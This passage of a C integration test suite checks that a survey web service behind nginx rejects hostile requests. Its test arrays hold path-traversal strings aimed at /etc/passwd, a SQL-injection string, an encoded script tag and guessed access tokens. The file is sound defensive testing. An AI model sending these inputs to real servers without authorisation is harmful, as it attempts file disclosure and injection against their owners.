        "/static/%252e%252e/nginx.conf",
        "/static/anketa.css%00.html",
        "/static//etc/passwd",
    };
    for (size_t i = 0; i < sizeof statics / sizeof *statics; i++) {
        assert_int_equal(http_request(&h, "GET", statics[i], NULL, 0, NULL, &r), 0);
        if (r.status != 400 && r.status != 404)
            fail_msg("%s: %ld", statics[i], r.status);
        assert_null(strstr(r.body, "root:"));
        assert_null(strstr(r.body, "fastcgi_pass"));
        http_result_free(&r);
    }
    /* Raw, as curl would normalise it. */
    static const char climb[] = "GET /static/../../../../etc/passwd HTTP/1.1\r\nHost: t\r\n"
                                "Connection: close\r\n\r\n";
    char *page = NULL;
    assert_int_equal(raw_exchange(climb, sizeof climb - 1, &page), 400);
    assert_null(strstr(page, "root:"));
    free(page);

    /* Survey ids in the API: a JSON 404, the same for every shape of name. */
    static const char *const ids[] = {
        "/api/v1/surveys/..%2f..%2fetc%2fpasswd",
        "/api/v1/surveys/../../../etc/passwd",
        "/api/v1/surveys/mentee-final%2f..%2f..%2fanketa",
        "/api/v1/surveys/%2e%2e",
        "/api/v1/surveys/mentee-final.yaml",
        "/api/v1/surveys/mentee-final/../../x",
    };
    for (size_t i = 0; i < sizeof ids / sizeof *ids; i++) {
        assert_int_equal(http_request(&h, "GET", ids[i], NULL, 0, NULL, &r), 0);
        if (r.status != 404)
            fail_msg("%s: %ld", ids[i], r.status);
        char value[128];
        if (strncmp(ids[i], "/api/v1/surveys/", 16) == 0 && strstr(r.body, "\"error\"")) {
            assert_int_equal(http_header_value(&r, "Content-Type", value, sizeof value), 0);
            assert_string_equal(value, "application/json; charset=utf-8");
            assert_non_null(strstr(r.body, "\"status\":404"));
        } else {
            assert_russian_page(r.body, "Страница не найдена");
        }
        http_result_free(&r);
    }

    /* Organisation codes, campaign codes and export names on the dashboard. */
    sign_in_curator();
    char value[256];
    static const char *const dash[] = {
        "/dash/org/..%2f..%2fetc%2fpasswd",
        "/dash/org/t-school/../t-region",
        "/dash/org/t-school%2f..%2ft-region",
        "/dash/org/t-school/campaign/..%2f..%2fx",
        "/dash/org/t-school/export/..%2f..%2fetc%2fpasswd",
        "/dash/org/t-school/export/responses%2f..%2f..",
        "/dash/org/t-school/export/responses?format=..%2f..%2fcsv",
        "/dash/org/t-school/export/responses?format=csv&survey=..%2f..%2fmentee-final",
    };
    for (size_t i = 0; i < sizeof dash / sizeof *dash; i++) {
        long status = get_as_curator(dash[i], &r);
        /* nginx resolves /t-school/../t-region to /dash/org/t-region itself: outside the
         * curator's subtree, so 404 all the same. */
        if (status != 404)
            fail_msg("%s: %ld", dash[i], status);
        assert_russian_page(r.body, "Страница не найдена");
        assert_null(strstr(r.headers, "Content-Disposition"));
        http_result_free(&r);
    }
    /* nginx resolves dot segments before anketa sees the path: /dash/org/.. is /dash/, the
     * curator's home. */
    assert_int_equal(get_as_curator("/dash/org/..", &r), 303);
    assert_int_equal(http_header_value(&r, "Location", value, sizeof value), 0);
    assert_string_equal(value, "/dash/org/t-school");
    http_result_free(&r);
    /* The download's file name comes from the registry, never from the URL. */
    assert_int_equal(get_as_curator("/dash/org/t-school/export/participants?format=csv", &r), 200);
    assert_int_equal(http_header_value(&r, "Content-Disposition", value, sizeof value), 0);
    assert_string_equal(value, "attachment; filename=\"participants-t-school.csv\"");
    http_result_free(&r);
    assert_healthy();
}

/*
 * Links: anything that is not a token we issued is answered exactly like an unknown token:
 * same status, byte-identical page, so nothing tells a malformed guess from a well-formed
 * one. Revoked and closed links say so (their holder was given them; see docs/security.md).
 */
static void test_tokens(void **state)
{
    (void)state;
    struct http_result r;
    assert_int_equal(http_request(&h, "GET", "/s/AAAAAAAAAAAAAAAAAAAAAA", NULL, 0, NULL, &r), 0);
    assert_int_equal(r.status, 404);
    assert_russian_page(r.body, "Страница не найдена");
    char *unknown = strdup(r.body);
    http_result_free(&r);

    char issued[23];
    assert_int_equal(harness_invite(&h, "mentee-final", issued), 0);
    char longer[64], shorter[64], case_flipped[64], prefix[64];
    snprintf(longer, sizeof longer, "/s/%sA", issued);
    snprintf(shorter, sizeof shorter, "/s/%.21s", issued);
    snprintf(prefix, sizeof prefix, "/s/%.11s", issued);
    snprintf(case_flipped, sizeof case_flipped, "/s/%s", issued);
    for (char *c = case_flipped + 3; *c; c++)
        if (*c >= 'a' && *c <= 'z')
            *c = (char)(*c - 'a' + 'A');
        else if (*c >= 'A' && *c <= 'Z')
            *c = (char)(*c - 'A' + 'a');
    const char *paths[] = {
        "/s/",
        "/s/A",
        "/s/AAAAAAAAAAAAAAAAAAAAA",
        "/s/AAAAAAAAAAAAAAAAAAAAAAA",
        "/s/AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
        "/s/AAAAAAAAAAAAAAAAAAAA%3D%3D",
        "/s/AAAAAAAAAAAAAAAAAAAA+/",
        "/s/AAAAAAAAAAAAAAAAAAAAA.",
        "/s/%D0%81%D0%81%D0%81%D0%81%D0%81%D0%81%D0%81%D0%81%D0%81%D0%81%D0%81",
        "/s/AAAAAAAAAAAAAAAAAAAA%FF",
        "/s/'%20OR%20'1'='1",
        "/s/AAAAAAAAAAAAAAAAAAAAAA/done/x",
        "/s/AAAAAAAAAAAAAAAAAAAAAA/../AAAAAAAAAAAAAAAAAAAAAA/x",
        longer,
        shorter,
        prefix,
        case_flipped,
    };
    for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) {
        for (int post = 0; post < 2; post++) {
            assert_int_equal(
                http_request(&h, post ? "POST" : "GET", paths[i], post ? "csrf=x" : NULL,
                             post ? 6 : 0,
                             post ? "Content-Type: application/x-www-form-urlencoded" : NULL, &r),
                0);
            if (r.status != 404 || strcmp(r.body, unknown) != 0)
                fail_msg("%s %s: %ld, %s the unknown token's page", post ? "POST" : "GET", paths[i],
                         r.status, strcmp(r.body, unknown) ? "not" : "the same as");
            assert_null(strstr(r.headers, "Set-Cookie"));
            http_result_free(&r);
        }
    }
    free(unknown);

    /* Revoked: 410, GET and POST alike, nothing stored. */
    char revoked[23], path[64];
    assert_int_equal(harness_invite(&h, "mentee-final", revoked), 0);
    assert_int_equal(harness_sql_long(&h,
                                      "UPDATE invitations SET revoked_at = '2026-11-01T00:00:00Z' "
                                      "WHERE token = ?",
                                      revoked),
                     0);
    snprintf(path, sizeof path, "/s/%s", revoked);
    assert_int_equal(http_request(&h, "GET", path, NULL, 0, NULL, &r), 0);
    assert_int_equal(r.status, 410);
    assert_russian_page(r.body, "Ссылка больше не действует");
    assert_null(strstr(r.body, "<form"));
    http_result_free(&r);
    assert_int_equal(http_request(&h, "POST", path, "csrf=x", 6,
                                  "Content-Type: application/x-www-form-urlencoded", &r),
                     0);
    assert_int_equal(r.status, 410);
    http_result_free(&r);
    assert_int_equal(responses_of(revoked), 0);
    assert_healthy();
}

/* The API answers everything it refuses with a JSON error, never an HTML page. */
static void test_api_errors_are_json(void **state)
{
    (void)state;
    static const struct {
        const char *method, *path;
        long status;
    } cases[] = {
        {"GET", "/api/v1/surveys/%3Cscript%3E", 404},
        {"GET", "/api/v1/surveys/mentee-final%00", 404},
        {"GET", "/api/v1/nothing", 404},
        {"POST", "/api/v1/surveys/mentee-final", 405},
        {"DELETE", "/api/v1/surveys", 405},
    };
    for (size_t i = 0; i < sizeof cases / sizeof *cases; i++) {
        struct http_result r;
        assert_int_equal(http_request(&h, cases[i].method, cases[i].path, NULL, 0, NULL, &r), 0);
        if (r.status == 400 && strstr(cases[i].path, "%00")) {
            /* nginx refuses an encoded NUL before anketa sees it. */
            http_result_free(&r);
            continue;
        }
        if (r.status != cases[i].status)
            fail_msg("%s %s: %ld", cases[i].method, cases[i].path, r.status);
        json_error_t je;
        json_t *doc = json_loads(r.body, 0, &je);
        if (!doc)
            fail_msg("%s %s: not JSON: %s", cases[i].method, cases[i].path, r.body);
        assert_int_equal(
            json_integer_value(json_object_get(json_object_get(doc, "error"), "status")),
            cases[i].status);
        assert_null(strstr(r.body, "<script>"));
        json_decref(doc);
        http_result_free(&r);
    }
    assert_healthy();
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_bodies_too_big_or_short),
        cmocka_unit_test(test_slow_clients_do_not_hold_workers),
        cmocka_unit_test(test_stalled_fastcgi_client),
        cmocka_unit_test(test_invalid_utf8_and_control_bytes),
        cmocka_unit_test(test_nul_bytes),
        cmocka_unit_test(test_overlong_headers_and_urls),
        cmocka_unit_test(test_repeated_parameters),
        cmocka_unit_test(test_payloads_stored_verbatim_shown_escaped),
        cmocka_unit_test(test_sign_in_form),
        cmocka_unit_test(test_path_traversal),
        cmocka_unit_test(test_tokens),
        cmocka_unit_test(test_api_errors_are_json),
    };
    return cmocka_run_group_tests_name("integration: hostile input through nginx", tests, setup,
                                       teardown);
}
